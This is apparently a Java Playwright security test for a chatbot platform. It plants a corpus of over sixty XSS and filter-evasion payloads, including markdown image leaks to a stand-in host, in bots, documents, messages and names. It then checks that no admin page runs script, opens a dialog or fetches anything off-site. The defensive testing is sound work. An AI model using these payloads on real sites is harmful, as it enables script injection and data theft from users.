package io.switchboard.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import io.switchboard.bots.Bot;
import io.switchboard.bots.BotCreation;
import io.switchboard.bots.BotDefinition;
import io.switchboard.bots.BotService;
import io.switchboard.channels.Channel;
import io.switchboard.conversations.ConversationService;
import io.switchboard.conversations.HandoverService;
import io.switchboard.kernel.ConversationId;
import io.switchboard.kernel.PageRequest;
import io.switchboard.kernel.TenantId;
import io.switchboard.knowledge.DocumentAddition;
import io.switchboard.knowledge.KnowledgeBase;
import io.switchboard.knowledge.KnowledgeService;
import io.switchboard.simulator.SimulatorService;
import io.switchboard.tenancy.TenancyService;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Markup and addresses in everything that strangers and members can write, looked at in a real browser: none of it runs, nothing is
 * fetched from anywhere, and no link leads to a script.
 *
 * <p>Checklist: ASVS 1.3.1, 1.3.5, 3.2.2 and LLM05.
 */
class HostileTextTest extends BrowserTest {

    private static final String RUN = "window.__ran=(window.__ran||0)+1";
    private static final String AWAY = "http://canary.invalid/";

    /** After OWASP's XSS filter evasion sheet, with what Markdown and right-to-left writing add. */
    private static final List<String> CORPUS = corpus();

    @Autowired
    KnowledgeService knowledge;

    @Autowired
    BotService bots;

    @Autowired
    SimulatorService simulator;

    @Autowired
    ConversationService conversations;

    @Autowired
    HandoverService handover;

    @Autowired
    TenancyService tenancy;

    @Test
    void is_shown_as_text_on_every_page() {
        assertThat(CORPUS).hasSizeGreaterThanOrEqualTo(60);
        SignedInOwner owner = newTenant();
        TenantId tenant = owner.tenant().id();
        KnowledgeBase base = knowledge.createKnowledgeBase(tenant, "Base " + CORPUS.getFirst(), "en");
        String document = addDocuments(tenant, base);
        Bot bot = bot(tenant, base);
        Channel channel = simulator.channelFor(tenant, bot.id());
        List<ConversationId> talks = talk(tenant, channel);
        CORPUS.stream()
                .limit(6)
                .forEach(text -> handover.reply(
                        tenant, talks.getFirst(), text, owner.owner().actor()));
        tenancy.rename(tenant, "<img src=x onerror=" + RUN + ">");
        Page page = signedIn(owner.owner().email(), Browsing.WIDE);
        List<String> requests = new ArrayList<>();
        List<String> dialogs = new ArrayList<>();
        page.onRequest(request -> requests.add(request.url()));
        page.onDialog(dialog -> {
            dialogs.add(dialog.message());
            dialog.dismiss();
        });

        List<String> paths = new ArrayList<>(List.of(
                "",
                "knowledge",
                "knowledge/" + base.id(),
                "documents/" + document,
                "knowledge/" + base.id() + "/search?q=" + "%3Cimg%20src%3Dx%20onerror%3D" + RUN.replace("=", "%3D")
                        + "%3E",
                "bots",
                "bots/" + bot.id(),
                "playground?bot=" + bot.id(),
                "simulator?bot=" + bot.id(),
                "channels",
                "channels/" + channel.id(),
                "conversations",
                "dead-letters",
                "audit",
                "api-keys"));
        talks.forEach(talk -> paths.add("conversations/" + talk));
        for (String path : paths) {
            visit(page, "/" + path);
            page.mouse().move(400, 300);
            assertThat(page.evaluate("() => window.__ran ?? 0"))
                    .as("scripts run on /%s", path)
                    .isEqualTo(0);
            assertThat(
                            (Integer)
                                    page.evaluate(
                                            "() => [...document.querySelectorAll('a[href],area[href],form[action]')]"
                                                    + ".filter(e => /^\\s*(javascript|data|vbscript):/i.test(e.getAttribute('href') ?? e.getAttribute('action'))).length"))
                    .as("links to scripts on /%s", path)
                    .isZero();
        }
        Browsing.keep(page, "hostile-text");

        assertThat(paths).hasSizeGreaterThan(15);
        assertThat(dialogs).isEmpty();
        assertThat(requests)
                .isNotEmpty()
                .allSatisfy(url -> assertThat(url).matches("(http|ws)://localhost:" + port + "/.*|data:.*|blob:.*"));
        assertThat(complaints).isEmpty();
    }

    private String addDocuments(TenantId tenant, KnowledgeBase base) {
        String last = "";
        for (String text : CORPUS) {
            DocumentAddition addition = knowledge.addFaq(tenant, base.id(), text, "Answer " + text);
            last = ((DocumentAddition.Added) addition).document().id().toString();
        }
        return last;
    }

    private Bot bot(TenantId tenant, KnowledgeBase base) {
        String text = CORPUS.get(1);
        return ((BotCreation.Saved) bots.create(
                        tenant,
                        "Bot " + text,
                        new BotDefinition(text, "Refused " + text, "Spent " + text, List.of(base.id()), Duration.ZERO)))
                .bot();
    }

    /** Each customer is called as the payload and writes it. */
    private List<ConversationId> talk(TenantId tenant, Channel channel) {
        List<String> writers = CORPUS.stream()
                .limit(8)
                .map(text -> text.substring(0, Math.min(99, text.length())))
                .toList();
        writers.forEach(
                name -> CORPUS.stream().limit(12).forEach(text -> simulator.write(tenant, channel.id(), name, text)));
        List<ConversationId> talks = writers.stream()
                .map(name ->
                        conversations.findByUser(tenant, channel.id(), name).orElseThrow())
                .toList();
        Awaitility.await()
                .atMost(Duration.ofSeconds(60))
                .until(() -> conversations.list(tenant, PageRequest.first(50)).items().stream()
                        .noneMatch(summary -> summary.waiting()));
        return talks.subList(0, 3);
    }

    private static List<String> corpus() {
        List<String> corpus = new ArrayList<>(List.of(
                "<img src=x onerror=" + RUN + ">",
                "<script>" + RUN + "</script>",
                "<svg/onload=" + RUN + ">",
                "<img src=\"" + AWAY + "pixel.png\">",
                "![leak](" + AWAY + "a.png?q=secret)",
                "[click](javascript:" + RUN + ")",
                "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
                "\"><script>" + RUN + "</script>",
                "'-" + RUN + "-'",
                "{{constructor.constructor('" + RUN + "')()}}",
                "${" + RUN + "}",
                "<a href=javascript:" + RUN + ">x</a>",
                "[ref][1]\n\n[1]: " + AWAY + "ref",
                "<link rel=stylesheet href=" + AWAY + "x.css>",
                "<style>@import '" + AWAY + "y.css';</style>",
                "<div style=\"background:url(" + AWAY + "bg.png)\">x</div>",
                "<base href=" + AWAY + ">",
                "<meta http-equiv=refresh content=\"0;url=" + AWAY + "\">",
                "<object data=" + AWAY + "o></object>",
                "<embed src=" + AWAY + "e>",
                "<video><source onerror=" + RUN + "></video>",
                "<audio src onerror=" + RUN + ">",
                "<body onload=" + RUN + ">",
                "<input autofocus onfocus=" + RUN + ">",
                "<details open ontoggle=" + RUN + ">",
                "<marquee onstart=" + RUN + ">x</marquee>",
                "<math><mtext></mtext><script>" + RUN + "</script></math>",
                "<svg><script>" + RUN + "</script></svg>",
                "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
                "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>" + RUN
                        + "</script></svg>#x\">",
                "<form action=javascript:" + RUN + "><button autofocus>x</button></form>",
                "<isindex type=image src=1 onerror=" + RUN + ">",
                "<img src=x onerror=&#119;indow.__ran=1>",
                "<IMG SRC=JaVaScRiPt:" + RUN + ">",
                "<img \"\"\"><script>" + RUN + "</script>\">",
                "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
                "<script/src=" + AWAY + "s.js></script>",
                "%3Cscript%3E" + RUN + "%3C/script%3E",
                "&lt;script&gt;" + RUN + "&lt;/script&gt;",
                "\u202E<img src=x onerror=" + RUN + ">",
                "\u200B<script>" + RUN + "</script>",
                "<template shadowrootmode=open><script>" + RUN + "</script></template>",
                "<vaadin-button onclick=" + RUN + ">x</vaadin-button>",
                "<vaadin-notification opened>x</vaadin-notification>",
                "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
                "<!--><script>" + RUN + "</script>-->",
                "<![CDATA[<script>" + RUN + "</script>]]>",
                "</textarea><script>" + RUN + "</script>",
                "</title><script>" + RUN + "</script>",
                "</script><script>" + RUN + "</script>",
                "javascript:" + RUN,
                "data:text/html,<script>" + RUN + "</script>",
                "vbscript:" + RUN,
                "<http://canary.invalid/auto>",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "`<img src=x onerror=" + RUN + ">`",
                "```html\n<script>" + RUN + "</script>\n```",
                "| a | b |\n|---|---|\n| <img src=x onerror=" + RUN + "> | x |",
                "<table background=" + AWAY + "t.png><tr><td>x</td></tr></table>",
                "<picture><source srcset=" + AWAY + "p.png><img></picture>",
                "<link rel=prefetch href=" + AWAY + "pre>",
                "<a ping=" + AWAY + "ping href=#>x</a>",
                "<img srcset=\"" + AWAY + "set.png 1x\">"));
        return List.copyOf(corpus);
    }
}
